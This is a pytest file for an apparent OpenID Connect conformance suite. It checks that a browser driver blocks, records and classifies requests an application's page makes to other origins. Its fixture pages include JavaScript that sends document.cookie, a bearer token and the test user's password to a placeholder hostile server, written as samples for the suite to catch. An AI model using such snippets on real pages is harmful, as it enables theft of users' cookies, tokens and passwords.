"""The application side's browser: a request of the application to an origin that is neither the
stand-in's nor the application's own never leaves, and it is judged on what it carried, not on where it
went: one that carries no credential (an image, a font or a script from a CDN, as Auth.js's sign-in
error page loads its logo from https://authjs.dev; an analytics beacon with a body) is aborted quietly,
listed, and the sign-in goes on; one that carries a token is kept whole for APPC-32 (appside/steps/
leaks.py), and the sign-in goes on too; only the test user's password, which no application holds,
ends the sign-in, a configuration problem naming the origin and the application file's keys."""

import os
from types import SimpleNamespace

import pytest
from faulty_servers import Answer, HostileServer, browser_driven_spa

from suite.verdict.checks import ConfigurationProblem
from suite.wire.browser import chromium_path
from suite.wire.http import UntrustedEndpoint

pytestmark = pytest.mark.skipif(
    chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium; CI installs it"
)
LOGIN = b"""<!doctype html><form method="post" action="/account/login"><input id="username" name="username">
<input id="password" name="password" type="password"><button id="sign-in" type="submit">Sign in</button></form>"""
PASSWORD = "pw-7Q!x-long"
TOKEN = "at-3f9c1d2e8b7a6f5e4d3c2b1a"  # what the page holds as its access token


def _sends(elsewhere: str, script: str) -> str:
    """A page that sends, then says it signed in: the request is made before the sign-in is judged."""
    return f'<script>{script.replace("ELSEWHERE", elsewhere)}; document.body.append("signed in")</script>'


PAGES = {
    "nothing": '<script>document.body.append("signed in")</script>',
    "an image, a font and a script": '<img src="ELSEWHERE/img/providers/visma.svg"><script src="ELSEWHERE/lib.js">'
    '</script><style>@font-face {font-family: f; src: url(ELSEWHERE/f.woff)}</style><p style="font-family: f">.</p>'
    "<p>signed in</p>",
    # react-oidc-context's SPA of an outside partner: NOT CONFORMANT for an analytics beacon carrying nothing secret
    "a beacon and a body": _sends(
        "ELSEWHERE",
        'navigator.sendBeacon("ELSEWHERE/collect", JSON.stringify({event: "invoices_viewed", status: 200})); '
        'fetch("ELSEWHERE/form", {method: "POST", body: "d=" + document.cookie, mode: "no-cors"}).catch(() => {})',
    ),
    "a token in a header": _sends(
        "ELSEWHERE",
        f'fetch("ELSEWHERE/v1/sync", {{method: "POST", headers: {{Authorization: "Bearer {TOKEN}"}}}})'
        ".catch(() => {})",
    ),
    # once the signed-in page shows, as a page sends a beacon after its API call: its sign-in's too
    "a token after the sign-in was judged": '<script>document.body.append("signed in"); setTimeout(() => fetch('
    f'"ELSEWHERE/v1/sync", {{method: "POST", headers: {{Authorization: "Bearer {TOKEN}"}}}}).catch(() => {{}}), 300)'
    "</script>",
    "the password": _sends("ELSEWHERE", f'navigator.sendBeacon("ELSEWHERE/collect", "p={PASSWORD}")'),
}


@pytest.mark.parametrize("elsewhere_sent", list(PAGES), ids=["own", "cdn", "beacon", "token", "late-token", "password"])
def test_what_the_application_sends_elsewhere_never_leaves_and_is_judged_on_what_it_carried(elsewhere_sent):
    from appside.browser_driver import BrowserDriver

    elsewhere = HostileServer({})
    stand_in = HostileServer({})
    app = HostileServer({})
    page = PAGES[elsewhere_sent].replace("ELSEWHERE", elsewhere.url)
    stand_in.routes.update(
        {
            "/account/login": lambda body: (
                Answer(302, {"Location": app.url + "/callback"})
                if body
                else Answer(200, {"Content-Type": "text/html"}, LOGIN)
            )
        }
    )
    app.routes.update(
        {
            "/": Answer(302, {"Location": stand_in.url + "/account/login"}),
            "/callback": Answer(200, {"Content-Type": "text/html"}, f"<!doctype html><body>{page}".encode()),
        }
    )
    application = browser_driven_spa(app.url)
    driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password=PASSWORD))
    try:
        session = driver.session()
        if elsewhere_sent == "the password":
            with pytest.raises(UntrustedEndpoint, match=elsewhere.url.split("//")[1]) as refused:
                session.sign_in()
            # what to do names the application file's keys, not an environment's
            assert "drive.sign_in_url" in str(refused.value) and "trusted_origins" not in str(refused.value)
            # no sentence binds where an application's page sends a password it never holds: a configuration
            # problem (exit 4), not a failure citing the suite's policy alone
            assert isinstance(refused.value, ConfigurationProblem), type(refused.value)
        else:
            sign_in = session.sign_in()
            assert sign_in.finished
            session.page.wait_for_timeout(1000)  # the page goes on after its sign-in was judged
        session.close()
    finally:
        driver.close()
        for server in (elsewhere, stand_in, app):
            server.close()
    assert elsewhere.requests == []
    assert [p for m, p, _, _ in stand_in.requests if m == "POST"] == ["/account/login"]
    if elsewhere_sent == "a beacon and a body":
        sent = {(s.method, s.url.removeprefix(elsewhere.url)): s for s in sign_in.sent_elsewhere}
        assert '"invoices_viewed"' in sent["POST", "/collect"].body and ("POST", "/form") in sent
        assert f"POST {elsewhere.url}/collect" in sign_in.elsewhere  # what the sign-in says it refused
    if elsewhere_sent in ("a token in a header", "a token after the sign-in was judged"):  # kept whole, for APPC-32
        (sync,) = [s for s in sign_in.sent_elsewhere if s.url.endswith("/v1/sync")]
        assert ("its authorization header", f"Bearer {TOKEN}") in sync.parts()


def test_a_refusal_of_the_fence_is_its_own_cause_not_blocked_by_a_rule_that_failed_too():
    """Auth.js without PKCE: the fence stopped APPC-19's sign-in at its error page's logo, and the record said
    "APPC-19 blocked by APPC-06"; the refusal is the cause, whichever step's sign-in it stopped."""
    from appside.conftest import pytest_bdd_step_error
    from suite.verdict.checks import NothingToCheck

    def failed_step(step_type, exception):
        request = SimpleNamespace(node=SimpleNamespace(user_properties=[]))
        step = SimpleNamespace(type=step_type, keyword="When", name="the sign-in is declined")
        pytest_bdd_step_error(request, None, None, step, None, None, exception)
        return dict(request.node.user_properties)["failed_step"]

    assert failed_step("when", UntrustedEndpoint("refused to send a request body"))["own_check"] is True
    assert failed_step("when", RuntimeError("the application's page broke"))["own_check"] is False
    assert failed_step("then", NothingToCheck("no token"))["nothing_to_check"] is True


def test_a_failure_whose_answer_gave_what_others_need_is_marked_delivered():
    """A native app's secret in Basic, which the stand-in answered 200 (IdentityServer skips a public client's
    secret): APPC-09 failed, and APPC-16 to APPC-21 were reported "blocked by APPC-09", for the hook never
    marked the failure delivered (suite.verdict.blocking reads that mark)."""
    from appside.conftest import pytest_bdd_step_error
    from suite.verdict.checks import Delivered, NonConformance

    def failed_step(exception):
        request = SimpleNamespace(node=SimpleNamespace(user_properties=[]))
        step = SimpleNamespace(type="then", keyword="Then", name="the application sends no client secret")
        pytest_bdd_step_error(request, None, None, step, None, None, exception)
        return dict(request.node.user_properties)["failed_step"]

    assert failed_step(Delivered("a native application sent a client secret"))["delivered"] is True
    assert "delivered" not in failed_step(NonConformance("refused"))


# The page reports what it can read of the browser: an application that checks its callback only where the
# User-Agent says "Headless" or navigator.webdriver is set (one built to fool the suite did) must meet a
# browser that looks like a person's.
REPORTS_BROWSER = b"""<!doctype html><p id=ua></p><p id=webdriver></p><script>
document.getElementById("ua").textContent = navigator.userAgent;
document.getElementById("webdriver").textContent = String(navigator.webdriver);
</script>"""


def _looks_like_a_person(page) -> None:
    page.wait_for_selector("#webdriver:not(:empty)")
    user_agent = page.locator("#ua").text_content()
    assert "Headless" not in user_agent and " Chrome/" in user_agent, user_agent
    assert page.locator("#webdriver").text_content() == "false"


def test_the_application_side_browser_looks_like_a_persons():
    from appside.browser_driver import BrowserDriver

    app = HostileServer({"/": Answer(200, {"Content-Type": "text/html"}, REPORTS_BROWSER)})
    application = SimpleNamespace(
        drive=SimpleNamespace(sign_in_url=app.url + "/", use_api_url=None, timeout=10, settle=0.5),
        redirect_uris=(app.url + "/callback",),
        app_type="web",
    )
    driver = BrowserDriver(application, "http://127.0.0.1:9", SimpleNamespace(username="u", password="pw"))
    try:
        session = driver.session()
        session.page.goto(app.url + "/")
        _looks_like_a_person(session.page)
        # what it sent the application says the same
        user_agents = [headers.get("User-Agent", "") for _, _, headers, _ in app.requests]
        assert user_agents and not any("Headless" in agent for agent in user_agents), user_agents
        session.close()
    finally:
        driver.close()
        app.close()


def _one_sign_in(driver, *servers):
    """One sign-in in a fresh session of `driver`; the driver and `servers` closed whatever happened."""
    try:
        session = driver.session()
        sign_in = session.sign_in()
        session.close()
        return sign_in
    finally:
        driver.close()
        for server in servers:
            server.close()


def test_an_application_looking_for_another_issuer_is_told_which_it_asked_and_the_stand_ins():
    """MSAL.js pointed at https://localhost:11059 while the stand-in was at :11050 said only
    endpoints_resolution_error (net::ERR_BLOCKED_BY_CLIENT); its discovery request was only in an attachment.
    The message names the origin the application asked, the stand-in's issuer, and the fix."""
    from appside.browser_driver import BrowserDriver
    from appside.observed import Observed
    from appside.steps.sign_ins import _say_if_none_finished, sign_in_never_started

    stand_in, app = HostileServer({}), HostileServer({})
    wrong = "https://localhost:9"  # nothing listens, and the browser would not reach it anyway
    discovery = f"{wrong}/.well-known/openid-configuration"
    page = f'<script>fetch("{discovery}").catch(e => console.error("endpoints_resolution_error"))</script>'
    app.routes.update({"/": Answer(200, {"Content-Type": "text/html"}, page.encode())})
    drive = SimpleNamespace(
        sign_in_url=app.url + "/", use_api_url=None, timeout=3, settle=0.5, signed_in=SimpleNamespace(selector="#user")
    )
    application = SimpleNamespace(
        drive=drive, redirect_uris=(app.url + "/callback",), app_type="spa", is_interactive=True
    )
    driver = BrowserDriver(application, stand_in.url, SimpleNamespace(username="test.user", password="pw-7Q!x"))
    sign_in = _one_sign_in(driver, stand_in, app)
    assert not sign_in.finished
    why = sign_in_never_started(application, [sign_in], [Observed([])])
    assert f"GET {wrong}/.well-known/openid-configuration" in why
    assert f"looks for Visma Connect at {wrong}, not at the stand-in" in why
    assert f"configure its issuer (authority) as the stand-in's, {stand_in.url}" in why
    # the run's notice, on the terminal and in the record, says the same
    recorder = SimpleNamespace(notices=[])
    config = SimpleNamespace(application=application, pluginmanager=SimpleNamespace(get_plugin=lambda name: recorder))
    _say_if_none_finished(config, [(sign_in, Observed([]))] * 2)
    assert f"looks for Visma Connect at {wrong}, not at the stand-in" in recorder.notices[0]


def test_a_sign_in_page_that_redirects_in_a_loop_is_said_to_redirect_in_a_loop():
    """An outsider's sign_in_url redirected to itself: the run said its page "answered HTTP 302 at
    chrome-error://chromewebdata/", Chromium's error page, and not why it got there."""
    from appside.browser_driver import BrowserDriver
    from appside.steps.sign_ins import _where_it_ended

    app = HostileServer({})
    app.routes.update({"/": Answer(302, {"Location": "/loop"}), "/loop": Answer(302, {"Location": "/"})})
    user = SimpleNamespace(username="test.user", password=PASSWORD)
    sign_in = _one_sign_in(BrowserDriver(browser_driven_spa(app.url, timeout=5), app.url, user), app)
    assert not sign_in.finished and sign_in.load_error.startswith(f"too many redirects: {app.url}/ redirects in a loop")
    assert _where_it_ended(sign_in).startswith(" (too many redirects") and "chrome-error" not in _where_it_ended(
        sign_in
    )


def test_a_refusal_that_breaks_no_sentence_is_recorded_as_a_configuration_problem_on_the_application_side():
    """The application side's reports mark a step's ConfigurationProblem as the server side's do (the record's
    error, exit 4): its refusal of the test user's password for another origin was recorded as the rule's failure,
    and the rule's sentence was quoted beside a refusal that breaks none."""
    from appside.conftest import pytest_bdd_step_error, pytest_runtest_makereport
    from suite.wire.http import UntrustedOrigin

    with pytest.raises(UntrustedOrigin) as raised:
        raise UntrustedOrigin("refused to send the test user's password in POST http://127.0.0.1:9/collect: ...")
    refusal = raised.value
    report = SimpleNamespace(failed=True, longrepr="a traceback", sections=[], user_properties=[])
    hook = pytest_runtest_makereport(None, SimpleNamespace(excinfo=raised))
    next(hook)
    with pytest.raises(StopIteration):
        hook.send(SimpleNamespace(get_result=lambda: report))
    assert ("configuration_problem", True) in report.user_properties
    assert str(report.longrepr).startswith("configuration problem: refused to send the test user's password")
    request = SimpleNamespace(node=SimpleNamespace(user_properties=[("rule", {"rule_id": "APPC-16"})]))
    step = SimpleNamespace(type="when", keyword="When", name="the user signs in")
    pytest_bdd_step_error(request, None, None, step, None, None, refusal)
    assert str(refusal) == refusal.args[0] and "RFC" not in str(refusal)  # no rule's sentence quoted beside it
